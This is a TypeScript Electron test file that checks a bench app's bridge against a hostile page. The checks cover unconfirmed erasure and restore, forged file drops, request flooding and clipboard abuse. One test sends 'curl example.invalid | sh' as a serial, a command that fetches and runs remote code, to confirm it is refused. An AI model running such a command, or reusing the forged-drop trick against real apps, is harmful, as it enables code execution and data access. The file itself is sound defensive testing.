import { utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, it } from 'vitest';

import type { BenchBridge } from '../../contract/bridge.ts';
import type { Result } from '../../contract/failure.ts';
import type { Recovery } from '../../contract/log-health.ts';
import { listCopies, verifyLog } from '../../db/index.ts';
import { en } from '../../words/en.ts';
import { devicesIn } from '../headless/support/data-folder.ts';
import { booted } from '../headless/support/usb-devices.ts';
import { answerQuestions, questionsAsked } from '../support/native-questions.ts';
import { ask } from './support/ask.ts';
import { armedBench } from './support/bench-story.ts';
import { dropFile } from './support/drop.ts';
import { closeSession, seeRow, signIn } from './support/technician.ts';
import { createUserFolder } from './support/user-folder.ts';

/** Pages under an attacker's control: they send whatever the bridge allows. */
interface Page {
  readonly bench: BenchBridge;
}

const DECLINED = { ok: false, failure: { kind: 'declined' } };

it('erases, restores and closes over exceptions only when a person says yes to the system', async () => {
  const { app, window, bench, dataDir } = await armedBench({ session: 'Spring' });
  await bench.plug(booted('1-1', 'TEST00TO01'));
  await seeRow(window, 'TEST00TO01');
  await signIn(window, 'Technician 1');
  await answerQuestions(app, 'no');
  const closed = await window.evaluate(() =>
    (globalThis as unknown as Page).bench.closeSession({
      despite: ['open-exceptions', 'missing', 'below-target', 'still-here'],
    }),
  );
  expect(closed).toMatchObject(DECLINED);
  await answerQuestions(app, 'yes');
  await closeSession(window);
  await ask(window, 'backUpNow');

  await answerQuestions(app, 'no');
  const copies = listCopies(dataDir);
  const wrong = await window.evaluate(async () => {
    const page = (globalThis as unknown as Page).bench;
    const wish = { kind: 'older', days: 0, isClockRight: true } as const;
    const { value } = (await page.getRecovery()) as { readonly value: Recovery };
    return [
      await page.removeData({ wish, why: 'x', removeCopies: true }),
      await page.restoreBackup({ id: value.backups[0]?.id ?? '', takesNewId: false }),
      (await page.planRemoval({ wish })) as Result<unknown>,
    ];
  });
  expect(wrong).toMatchObject([DECLINED, DECLINED, { ok: true }]);
  expect(copies.length).toBeGreaterThan(0);
  expect(listCopies(dataDir)).toEqual(copies);
  expect(verifyLog(dataDir)).toMatchObject({ ok: true });
  expect(devicesIn(dataDir)).toMatchObject([{ serial: 'TEST00TO01' }]);

  const asked = await questionsAsked(app);
  const { questions } = en;
  expect(asked.map(({ message }) => message)).toEqual([
    questions.close.title('Spring'),
    questions.close.title('Spring'),
    questions.remove.older('1', '1'),
    expect.stringMatching(/^Replace the log with the backup of .*\?$/),
  ]);
  expect(asked[0]?.buttons).toEqual([questions.close.no, questions.close.yes]);
  expect(asked[2]?.detail).toContain(questions.remove.by('Technician 1'));
});

it('reads a file that a person dropped, once, and none that they did not', async () => {
  const { window } = await armedBench();
  const file = join(createUserFolder(), 'devices.csv');
  writeFileSync(
    file,
    'Managed by,Azure AD Device ID,Last check-in,Serial number\r\nIntune,,,TEST00TO11\r\n',
  );
  utimesSync(file, 1_790_000_000, 1_790_000_000);
  const read = () =>
    window.evaluate(async () => {
      const { ok } = await (globalThis as unknown as Page).bench.readDropped();
      return ok;
    });
  expect(await read()).toBe(false);
  await dropFile(window, file);
  await window.locator('[data-stage=intune-devices]').waitFor();
  expect(await read()).toBe(false);

  // A page keeps the file of a drop, or has one chosen, and fabricates a drop from it.
  await window.evaluate(() => {
    const input = document.createElement('input');
    input.type = 'file';
    input.id = 'kept-file';
    document.body.append(input);
  });
  await window.locator('#kept-file').setInputFiles(file);
  await window.evaluate(() => {
    const dataTransfer = new DataTransfer();
    const [kept] = document.querySelector<HTMLInputElement>('#kept-file')?.files ?? [];
    if (kept !== undefined) dataTransfer.items.add(kept);
    const made = new DragEvent('drop', { dataTransfer, bubbles: true, cancelable: true });
    // No handler takes a drop that the page made, so the path would still be readable.
    document.body.dispatchEvent(made);
  });
  expect(await read()).toBe(false);
});

it('answers a page that asks without end with a refusal, goes on, and ends when it is told to', async () => {
  const { app, window, bench } = await armedBench({ isCold: true });
  const answers = window.evaluate(async () => {
    const { readHistory } = (globalThis as unknown as Page).bench;
    const all = await Promise.all(Array.from({ length: 400 }, () => readHistory()));
    return all.map((answer) => (answer.ok ? 'ok' : answer.failure.kind));
  });
  await bench.plug(booted('1-1', 'TEST00TO21'));
  await seeRow(window, 'TEST00TO21', en.states.logged);
  const kinds = await answers;
  const answered = kinds.filter((kind) => kind === 'ok').length;
  // The window's own requests may hold a few of the 32 places.
  expect(answered).toBeGreaterThan(24);
  expect(answered).toBeLessThanOrEqual(32);
  expect(kinds.filter((kind) => kind === 'busy')).toHaveLength(400 - answered);
  // Again, and the end comes while they are busy: `close` of the launch fails if that takes long.
  await window.evaluate(() => {
    const { readHistory } = (globalThis as unknown as Page).bench;
    for (let times = 0; times < 400; times += 1) void readHistory();
  });
  const peaks = await app.evaluate(({ app: electron }) =>
    electron.getAppMetrics().map(({ memory }) => memory.peakWorkingSetSize),
  );
  expect(Math.max(...peaks)).toBeLessThan(1_000_000);
});

it('puts nothing but a serial on the clipboard', async () => {
  const { app, window } = await armedBench();
  await app.evaluate(({ clipboard }) => clipboard.writeText('before'));
  const answers = await window.evaluate(async () => {
    const { copySerials } = (globalThis as unknown as Page).bench;
    return [
      await copySerials({ serials: ['curl example.invalid | sh\n'] }),
      await copySerials({ serials: ['TEST00TO31'] }),
    ].map(({ ok }) => ok);
  });
  expect(answers).toEqual([false, true]);
  expect(await app.evaluate(({ clipboard }) => clipboard.readText())).toBe('TEST00TO31');
});
